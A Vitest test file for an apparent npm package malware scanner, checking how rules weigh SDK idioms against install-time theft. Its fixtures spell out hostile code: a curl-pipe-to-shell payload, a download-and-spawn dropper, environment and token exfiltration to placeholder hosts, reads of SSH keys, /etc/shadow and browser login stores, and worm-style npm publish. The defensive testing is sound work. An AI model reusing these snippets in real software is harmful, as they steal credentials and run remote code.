import { describe, expect, it } from 'vitest';
import { INSTALL, jsFindings, ruleFindings, scanInline } from '../helpers.js';

/**
 * What SDKs, CLIs and browser tools legitimately do looks like a technique when read alone
 * (popular packages checked: gcp-metadata, @smithy/credential-provider-imds, @azure/identity,
 * prisma, npm-check-updates, pm2). These pin the weighing that keeps them quiet without losing
 * the install-time and data-flow cases.
 */
describe('weighing by execution context (SDK idioms vs install-time theft)', () => {
  const ownKey = `const https = require('https');
    module.exports = function call(body) {
      const req = https.request({ hostname: 'api.example.invalid', method: 'POST',
        headers: { authorization: process.env.EXAMPLE_API_TOKEN } });
      req.end(process.env.EXAMPLE_API_TOKEN + body);
    };`;

  it('one named token sent by an imported SDK file weighs medium, and the package stays clean', async () => {
    const flow = (await ruleFindings('JS-010', ownKey)).at(0);
    expect(flow?.severity).toBe('medium');
    expect(flow?.evidence?.weighed).toMatch(/one named variable/);
    const { verdict } = await scanInline({ 'index.js': ownKey });
    expect(verdict.verdict).toBe('clean');
  });

  it('the same flow in an install script stays high and the package is not clean', async () => {
    const code = ownKey
      .replace('module.exports = function call(body) {', '(function call(body) {')
      .replace(/};$/, "})('x');");
    const f = await jsFindings({ 'install.js': code }, INSTALL());
    expect(f.find((x) => x.ruleId === 'JS-010')?.severity).toBe('high');
    const { verdict } = await scanInline({ 'install.js': code }, INSTALL());
    expect(verdict.verdict).not.toBe('clean');
  });

  it('the whole environment stays critical at import', async () => {
    const f = await ruleFindings(
      'JS-010',
      "require('https').request({ hostname: 'x.invalid', method: 'POST' }).end(JSON.stringify(process.env));",
    );
    expect(f[0]?.severity).toBe('critical');
  });

  it('a dynamic process.env[name] lookup is one variable, not the whole environment', async () => {
    const f = await ruleFindings(
      'JS-010',
      "const k = process.argv[2];\nrequire('https').request({ hostname: 'x.invalid' }).end(process.env[k]);",
    );
    expect(f[0]?.severity).toBe('medium');
    expect(String(f[0]?.message)).toContain('process.env[*]');
  });

  it('naming the cloud metadata service is low at import and medium at install', async () => {
    const code = "exports.HOST = 'http://169.254.169.254';";
    expect((await ruleFindings('NET-001', code))[0]?.severity).toBe('low');
    const atInstall = (await jsFindings({ 'install.js': code }, INSTALL())).find(
      (x) => x.ruleId === 'NET-001',
    );
    expect(atInstall?.severity).toBe('medium');
  });

  it('npm publish from a CLI module is medium; from an install script it keeps its weight', async () => {
    const code = "require('child_process').execSync('npm publish --access public');";
    const cli = (await ruleFindings('JS-001', code)).find((x) => /publish/.test(x.message));
    expect(cli?.severity).toBe('medium');
    const install = (await jsFindings({ 'install.js': code }, INSTALL())).find(
      (x) => x.ruleId === 'JS-001' && /publish/.test(x.message),
    );
    expect(install?.severity).toBe('high');
  });

  it('credential-store names in a bundle-sized file weigh medium; in a small module they keep their weight', async () => {
    const mention = "const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa');\n";
    const small = await ruleFindings('JS-004', mention);
    expect(small[0]?.severity).toBe('high');
    const bundle = await ruleFindings(
      'JS-004',
      mention + `var filler = ${JSON.stringify('x'.repeat(210 * 1024))};\n`,
    );
    expect(bundle[0]?.severity).toBe('medium');
  });
});

describe('credential-store names: paths, not prose or hosts', () => {
  it('does not read docs.aws.amazon.com as the ~/.aws folder', async () => {
    expect(
      await ruleFindings(
        'JS-004',
        "const DOC = 'https://docs.aws.amazon.com/sdkref/latest/guide/credentials.html';",
      ),
    ).toHaveLength(0);
    expect(
      await ruleFindings('JS-004', "const p = require('os').homedir() + '/.aws/credentials';"),
    ).toHaveLength(1);
  });

  it('does not read an error message as a browser file', async () => {
    expect(
      await ruleFindings('JS-004', "throw new Error('No cached account found in local state.');"),
    ).toHaveLength(0);
    expect(
      await ruleFindings('JS-004', "const p = require('path').join(profileDir, 'Local State');"),
    ).toHaveLength(1);
  });

  it('/etc/passwd is an account list (medium); /etc/shadow holds password hashes (high)', async () => {
    expect((await ruleFindings('JS-004', "require('fs').readFileSync('/etc/passwd');"))[0]?.severity).toBe(
      'medium',
    );
    expect((await ruleFindings('JS-004', "require('fs').readFileSync('/etc/shadow');"))[0]?.severity).toBe(
      'high',
    );
  });
});

describe('FormData', () => {
  it('an empty multipart body is not form data taken from a page', async () => {
    const code =
      "const fd = new FormData(); fd.append('file', require('fs').readFileSync('a.tgz'));\nfetch('https://registry.example.invalid/upload', { method: 'POST', body: fd });";
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });

  it('a FormData built from a page form still is', async () => {
    const code =
      "const fd = new FormData(document.querySelector('form'));\nfetch('https://x.invalid/c', { method: 'POST', body: fd });";
    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
  });
});

describe('base64 code literals (JS-006) are analysed as code', () => {
  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

  it('inert embedded code (a worker shipped as base64) is low', async () => {
    const inner =
      "/*! worker 1.0 | https://example.invalid/worker */\nimport { parentPort } from 'node:worker_threads';\nparentPort.on('message', (m) => parentPort.postMessage(m * 2));";
    const f = await ruleFindings('JS-006', `const WORKER = '${b64(inner)}';\nmodule.exports = WORKER;`);
    expect(f[0]?.severity).toBe('low');
    expect(f[0]?.evidence?.inert).toBe(true);
  });

  it('encoded code that runs a shell command stays high and its technique is reported', async () => {
    const inner = "require('child_process').exec('curl -s http://203.0.113.7/x.sh | sh');";
    const all = await jsFindings({ 'index.js': `const P = '${b64(inner)}';\nmodule.exports = P;` });
    expect(all.find((x) => x.ruleId === 'JS-006')?.severity).toBe('high');
    expect(all.some((x) => x.ruleId === 'JS-001' && /curl/.test(x.message))).toBe(true);
  });
});

describe('npm publish through a local exec wrapper', () => {
  const files = (entry: string) => ({
    'lib/sexec.js':
      "const cp = require('child_process');\nmodule.exports = function sexec(command, cb) { return cp.exec(command, cb); };",
    [entry]: "const sexec = require('./lib/sexec');\nsexec('npm publish --access public', () => {});",
  });

  it('is medium when a CLI module does it', async () => {
    const f = (await jsFindings(files('index.js'))).find(
      (x) => x.ruleId === 'JS-001' && /publish/.test(x.message),
    );
    expect(f?.evidence?.techniques).toEqual(['worm-publish']);
    expect(f?.severity).toBe('medium');
  });

  it('keeps its weight in an install script', async () => {
    const f = (await jsFindings(files('install.js'), INSTALL())).find(
      (x) => x.ruleId === 'JS-001' && /publish/.test(x.message),
    );
    expect(f?.severity).toBe('high');
  });
});

describe('JS-009 in bundles', () => {
  const dropper = `const http = require('http'), fs = require('fs'), cp = require('child_process');
    http.get('http://192.0.2.1/p', r => { r.pipe(fs.createWriteStream('/tmp/p')); cp.spawn('/tmp/p'); });`;
  const padding = `\n/* ${'bundled code '.repeat(20_000)} */\n`;
  it('a download, a write and a process in a bundle-sized imported file weigh medium', async () => {
    const f = (await jsFindings({ 'index.js': dropper + padding })).filter((x) => x.ruleId === 'JS-009');
    expect(f[0]?.severity).toBe('medium');
  });
  it('the same file keeps high when it runs at install, and a small imported module keeps high', async () => {
    const install = (await jsFindings({ 'install.js': dropper + padding }, INSTALL())).filter(
      (x) => x.ruleId === 'JS-009',
    );
    expect(install[0]?.severity).toBe('high');
    const small = (await jsFindings({ 'index.js': dropper })).filter((x) => x.ruleId === 'JS-009');
    expect(small[0]?.severity).toBe('high');
  });
});

describe('JS-004 on configuration that tooling reads for itself', () => {
  const npmrc = `const path = require('path'), os = require('os');
    module.exports = (scope) => readConfig(path.join(os.homedir(), '.npmrc'), scope);`;
  it('a small imported module that names ~/.npmrc (registry-url style) weighs medium and stays clean', async () => {
    const f = (await jsFindings({ 'index.js': npmrc })).filter((x) => x.ruleId === 'JS-004');
    expect(f[0]?.severity).toBe('medium');
    expect((await scanInline({ 'index.js': npmrc })).verdict.verdict).toBe('clean');
  });
  it('a database client naming ~/.pgpass (its own login file) weighs medium too', async () => {
    const pg = `const path = require('path'), os = require('os');
      module.exports = () => path.join(os.homedir(), '.pgpass');`;
    const f = (await jsFindings({ 'index.js': pg })).filter((x) => x.ruleId === 'JS-004');
    expect(f[0]?.severity).toBe('medium');
  });
  it('keeps high at install time, and for stores no library reads as its own config', async () => {
    const install = (await jsFindings({ 'install.js': npmrc }, INSTALL())).filter(
      (x) => x.ruleId === 'JS-004',
    );
    expect(install[0]?.severity).toBe('high');
    const chrome = `const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data');
      module.exports = p;`;
    const f = (await jsFindings({ 'index.js': chrome })).filter((x) => x.ruleId === 'JS-004');
    expect(f[0]?.severity).toBe('high');
  });
});
